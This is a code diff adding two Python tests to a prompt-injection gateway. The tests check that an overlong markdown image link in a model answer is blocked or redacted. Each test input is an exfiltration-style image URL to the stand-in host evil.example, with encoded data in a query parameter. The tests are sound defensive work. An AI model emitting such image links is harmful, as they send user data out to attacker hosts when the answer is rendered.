@@ -3,10 +3,11 @@
 from msgspec.structs import replace
 
 from promptguard_gateway.core.detector import Redacted
-from promptguard_gateway.core.policy import Mode
+from promptguard_gateway.core.policy import Action, Mode, Verb
 from promptguard_gateway.core.presets import PRESETS
 from promptguard_gateway.core.segments import Column, Role, Segment
 from promptguard_gateway.detectors.catalogue import DETECTORS
+from promptguard_gateway.detectors.links import LINKS
 from promptguard_gateway.proxy.inspect import Judge, knowledge_of
 
 MAIL = "jane.roe@mail.example"
@@ -56,3 +57,21 @@ def test_the_policys_hosts_and_the_column_reach_the_detectors() -> None:
     assert JUDGE.answer([answer], knowledge_of([], ())).decision.edits
     allowing = Judge(DETECTORS, replace(PRESETS["moderate"], allowed_hosts=("pictures.example",)))
     assert allowing.answer([answer], knowledge_of([], ())).decision.edits == ()
+
+
+def test_what_was_held_for_too_long_never_passes() -> None:
+    """An address without end is longer than may be held back: that is a block, whatever the matrix says."""
+    endless = answered("see ![x](https://evil.example/p?d=" + "Zm9vYmFy" * 1200)
+    decision = JUDGE.answer([endless], knowledge_of([], ())).decision
+    assert (decision.outcome, decision.threat_type) == (Verb.BLOCK, "policy_violation")
+
+
+def test_what_was_held_for_too_long_can_be_replaced() -> None:
+    """Where the policy says so; then the decision is to redact, too."""
+    judge = Judge([LINKS], replace(PRESETS["moderate"], overflow=Action.REDACT))
+    endless = answered("see ![x](https://evil.example/p?d=" + "Zm9vYmFy" * 1200 + " bye")
+    decision = judge.answer([endless], knowledge_of([], ())).decision
+    assert (decision.outcome, [edit.replacement for edit in decision.edits][:1]) == (
+        Verb.REDACT,
+        ["[OVERFLOW_REDACTED]"],
+    )
